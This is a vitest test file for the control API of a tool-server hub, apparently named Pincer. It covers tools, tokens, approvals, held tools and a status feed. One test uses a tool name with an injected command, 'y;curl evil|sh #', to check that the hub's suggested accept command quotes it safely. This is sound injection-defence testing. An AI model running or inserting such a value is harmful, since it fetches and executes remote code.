import { describe, expect, it } from 'vitest';
import { NO_CLIENT } from '../../../../test/kit/control.ts';
import { defineTool, offerOf } from '../../../../test/kit/offer.ts';
import type { Scopes } from '../core/caller.ts';
import { createCatalog } from '../core/catalog/catalog.ts';
import { PincerError } from '../core/errors.ts';
import type { HeldTool } from '../core/trust/trust.ts';
import { createControlActions, createStatusFeed } from './actions.ts';
import type { ReloadReport } from './contract/servers.ts';
import type { HubStatus } from './contract/status.ts';

const TOOL = { name: 'größe', inputSchema: { type: 'object' } };

function bench(problem?: PincerError, held: HeldTool[] = []) {
  const told: unknown[] = [];
  const catalog = createCatalog((text) => Buffer.from(text).toString('hex').padEnd(32, '0'));
  catalog.configure([
    { name: 'a', prefix: 'a' },
    { name: 'silent', prefix: 'silent' },
  ]);
  catalog.put('a', offerOf({ tools: [defineTool(TOOL)] }));
  const actions = createControlActions({
    catalog,
    book: {
      add: (name: string, scopes: Scopes) => {
        told.push(['add', name, scopes]);
        return { name, token: 't' };
      },
      ensure: (name) => {
        told.push(['ensure', name]);
        return { token: 't', isNew: true };
      },
      list: () => [],
      revoke: (name) => void told.push(['revoke', name]),
      find: (name) => (name === 'openclaw:a' ? { id: 'c', name, scopes: { servers: ['a'] } } : undefined),
    },
    whenKnown: (server) => {
      told.push(['whenKnown', server]);
      return undefined;
    },
    problemOf: () => problem,
    approvals: {
      list: () => [],
      decide: (id, decision) => {
        told.push(['decide', id, decision]);
        throw new PincerError('ARGUMENT_INVALID', 'There is none.');
      },
      withdraw: (id) => void told.push(['withdraw', id]),
    },
    allowAlways: (approval) => void told.push(['allowAlways', approval]),
    async askAhead(call, maxBytes) {
      told.push(['askAhead', call, maxBytes]);
      return { decision: 'deny', reason: new PincerError('POLICY_DENIED', 'No.', { hint: 'Change it.' }) };
    },
    signIns: {
      begin: () => Promise.reject(new Error('not here')),
      cancel: () => undefined,
      complete: () => Promise.reject(new Error('not here')),
      signOut: () => Promise.reject(new Error('not here')),
    },
    forgetCaller: async (id) => void told.push(['forget', id]),
    held: () => held,
    accept: (server, tool, seen) => {
      told.push(['accept', server, tool, seen]);
      return [];
    },
    reload: () => ({}) as ReloadReport,
    check: () => ({ problems: [] }),
    refresh: async () => undefined,
    describe: async () => ({ version: '1' }) as HubStatus,
    async addServer(name, config) {
      told.push(['addServer', name, config]);
    },
    now: () => 1_000,
    disconnect: (name) => void told.push(['disconnect', name]),
    stop: () => void told.push(['stop']),
  });
  const run = async (route: string, query: Record<string, string> = {}, body?: unknown): Promise<unknown> => {
    return actions[route as 'GET status']({
      query: new URLSearchParams(query),
      body,
      ...NO_CLIENT,
    });
  };
  return { told, run };
}

const codeOf = async (action: Promise<unknown>): Promise<string> =>
  action.then(
    () => 'no error',
    (error: unknown) => PincerError.from(error).code,
  );

describe('tools', () => {
  const described = {
    server: 'a',
    name: 'größe',
    exposed: expect.stringMatching(/^a__gr__e_/),
    definition: TOOL,
  };

  it('are listed for all servers or one, when they are known', async () => {
    const { told, run } = bench();
    expect(await run('GET tools')).toEqual([described]);
    expect(await run('GET tools', { server: 'a' })).toEqual([described]);
    expect(told).toEqual([
      ['whenKnown', undefined],
      ['whenKnown', 'a'],
    ]);
  });

  it('are found one by one', async () => {
    expect(await bench().run('GET tool', { server: 'a', name: 'größe' })).toEqual(described);
  });

  it('of an unknown server, and unknown ones, are errors that say so', async () => {
    const { run } = bench();
    expect(await codeOf(run('GET tools', { server: 'x' }))).toBe('SERVER_UNKNOWN');
    expect(await codeOf(run('GET tools', { server: '__proto__' }))).toBe('SERVER_UNKNOWN');
    expect(await codeOf(run('GET tool', { name: 'y' }))).toBe('SERVER_UNKNOWN');
    await expect(run('GET tool', { server: 'a', name: 'y' })).rejects.toMatchObject({
      code: 'TOOL_UNKNOWN',
      data: { known: ['größe'] },
    });
  });
});

describe('a server that was never heard', () => {
  it('has a problem that is told, in place of tools', async () => {
    const { run } = bench(new PincerError('SERVER_GONE', 'It exited.', { hint: 'Its last words: x' }));
    for (const action of ['GET tools', 'GET tool'])
      await expect(run(action, { server: 'silent', name: 'x' })).rejects.toMatchObject({
        code: 'SERVER_UNREACHABLE',
        message: 'It exited.',
        hint: 'Its last words: x',
      });
    expect(await run('GET tools', { server: 'a' })).toHaveLength(1);
  });

  it('has no tools where nothing is wrong with it', async () => {
    expect(await bench().run('GET tools', { server: 'silent' })).toEqual([]);
  });
});

describe('servers', () => {
  it('are added by name and configuration', async () => {
    const { told, run } = bench();
    await run('POST servers', {}, { name: 'a', config: { command: 'x' } });
    expect(told).toEqual([['addServer', 'a', { command: 'x' }]]);
  });

  it.each([undefined, null, [], {}, { name: 1 }, { name: 'a', config: {}, more: 1 }])(
    'are not added by %j',
    async (body) => {
      const { told, run } = bench();
      expect(await codeOf(run('POST servers', {}, body))).toBe('USAGE');
      expect(told).toEqual([]);
    },
  );
});

describe('tokens', () => {
  it('are made with their scopes and revoked by name', async () => {
    const { told, run } = bench();
    expect(await run('POST tokens', {}, { name: 'n', servers: ['a'], readOnly: true })).toEqual({
      name: 'n',
      token: 't',
    });
    await run('DELETE tokens', { name: 'n' });
    expect(told).toEqual([
      ['add', 'n', { servers: ['a'], readOnly: true }],
      ['revoke', 'n'],
    ]);
    expect(await run('GET tokens')).toEqual([]);
    await run('DELETE tokens', { name: 'openclaw:a' });
    expect(told.slice(-2)).toEqual([
      ['revoke', 'openclaw:a'],
      ['forget', 'c'],
    ]);
  });

  it.each([
    undefined,
    {},
    { name: '' },
    { name: 'x'.repeat(65) },
    { name: 'n', servers: 'a' },
    { name: 'n', readOnly: 'yes' },
    { name: 'n', tools: [1] },
    { name: 'n', scope: {} },
  ])('are not made of %j: nothing unknown widens what a token may do', async (body) => {
    const { told, run } = bench();
    expect(await codeOf(run('POST tokens', {}, body))).toBe('USAGE');
    expect(told).toEqual([]);
  });
});

it('the hub describes itself and stops', async () => {
  const { told, run } = bench();
  expect(await run('GET status')).toEqual({ revision: 1_001, version: '1', held: [], approvals: 0 });
  await run('POST stop');
  expect(told).toEqual([['stop']]);
});

describe('tools that wait for a person', () => {
  const offered = JSON.stringify({ name: 'y', description: 'new', inputSchema: {} });
  const accepted = JSON.stringify({ name: 'y', description: 'old', inputSchema: {} });
  const held: HeldTool[] = [{ server: 'a', tool: 'y', why: 'changed', accepted, offered, digest: 'd' }];

  it('are listed with what has changed, and are said to be held', async () => {
    const { run } = bench(undefined, held);
    expect(await run('GET held')).toMatchObject([
      { server: 'a', tool: 'y', why: 'changed', digest: 'd', changes: [{ path: 'description' }] },
    ]);
    await expect(run('GET tool', { server: 'a', name: 'y' })).rejects.toMatchObject({
      code: 'TOOL_WITHDRAWN',
    });
    expect(await codeOf(run('GET held', { server: 'x' }))).toBe('SERVER_UNKNOWN');
  });

  it('are named in a command that does nothing but accept', async () => {
    const tool = 'y;curl evil|sh #';
    const { run } = bench(undefined, [{ ...held[0]!, tool }]);
    await expect(run('GET tool', { server: 'a', name: tool })).rejects.toMatchObject({
      hint: "See what it is: pincer accept 'a.y;curl evil|sh #'",
    });
  });

  it('are accepted as they were seen', async () => {
    const { told, run } = bench(undefined, held);
    expect(await run('POST accept', {}, { server: 'a', tool: 'y', seen: ['d'] })).toEqual({ accepted: [] });
    expect(told).toEqual([['accept', 'a', 'y', new Set(['d'])]]);
    expect(await codeOf(run('POST accept', {}, { server: 'a' }))).toBe('USAGE');
  });
});

describe('approvals', () => {
  it('are decided by id', async () => {
    const { told, run } = bench();
    expect(await run('GET approvals')).toEqual([]);
    expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'allowed' }))).toBe(
      'ARGUMENT_INVALID',
    );
    expect(told).toEqual([['decide', 'x', 'allowed']]);
    expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'maybe' }))).toBe('USAGE');
    expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'denied', always: true }))).toBe(
      'USAGE',
    );
  });

  it('are taken back by id', async () => {
    const { told, run } = bench();
    await run('DELETE approvals', { id: 'x' });
    expect(told).toEqual([['withdraw', 'x']]);
  });

  it('are asked for ahead of a call, in the name of the credential that it will come with', async () => {
    const { told, run } = bench();
    const params = { name: 'größe', arguments: { n: 1 } };
    expect(await run('POST approvals/ask', {}, { server: 'a', by: 'openclaw:a', params, room: 300 })).toEqual(
      {
        decision: 'deny',
        code: 'POLICY_DENIED',
        message: 'No.',
        hint: 'Change it.',
      },
    );
    const raw = (text: string): string => Buffer.from(text).toString('latin1');
    expect(told).toEqual([
      [
        'askAhead',
        {
          caller: { id: 'c', name: 'openclaw:a', scopes: { servers: ['a'] } },
          view: 'a',
          method: 'tools/call',
          params: [
            { key: 'name', raw: raw('"größe"') },
            { key: 'arguments', raw: '{"n":1}' },
          ],
        },
        300,
      ],
    ]);
  });

  it.each([
    { server: 'a', by: 'nobody', params: {} },
    { server: 'a', by: 'openclaw:a', params: [] },
    { server: 'a', by: 'openclaw:a', params: {}, method: 'completion/complete' },
    { server: 'a', by: 'openclaw:a', params: {}, decision: 'allowed' },
    { by: 'openclaw:a', params: {} },
  ])('are not asked for by %j', async (body) => {
    const { told, run } = bench();
    expect(await codeOf(run('POST approvals/ask', {}, body))).toBe('USAGE');
    expect(told).toEqual([]);
  });
});

describe('what a server offers', () => {
  it('is told without asking it, and with asking it', async () => {
    const { run } = bench();
    expect(await run('GET offer', { server: 'a' })).toMatchObject({
      name: 'a',
      isKnown: true,
      tools: ['größe'],
    });
    expect(await run('GET offer', { server: 'silent' })).toMatchObject({ isKnown: false, tools: [] });
    expect(await run('POST probe', {}, { name: 'a' })).toMatchObject({ name: 'a', tools: ['größe'] });
  });
});

function feedBench() {
  const status = { servers: [{ name: 'a', state: 'ready', inFlight: 0 }] };
  const feed = createStatusFeed(
    async () => structuredClone(status),
    () => performance.now(),
  );
  return { server: status.servers[0]!, feed };
}

describe('createStatusFeed', () => {
  it('answers at once if the client knows no revision, or an older one', async () => {
    const { feed } = feedBench();
    const first = (await feed.next(undefined, 60_000)) as { revision: number };
    expect(first).toMatchObject({ servers: [{ name: 'a', state: 'ready' }] });
    expect(await feed.next(first.revision - 1, 60_000)).toEqual(first);
  });

  it('waits for a change', async () => {
    const { feed, server } = feedBench();
    const first = (await feed.next(undefined, 0)) as { revision: number };
    const next = feed.next(first.revision, 60_000);
    server.state = 'backoff';
    expect(await next).toMatchObject({ revision: first.revision + 1, servers: [{ state: 'backoff' }] });
  });

  it('does not wait longer than it was asked to', async () => {
    const { feed } = feedBench();
    const first = (await feed.next(undefined, 0)) as { revision: number };
    expect(await feed.next(first.revision, 150)).toEqual(first);
  });

  it('does not count calls under way as a change', async () => {
    const { feed, server } = feedBench();
    const first = (await feed.next(undefined, 0)) as { revision: number };
    server.inFlight = 1;
    expect(await feed.next(first.revision, 0)).toMatchObject({ revision: first.revision });
  });
});
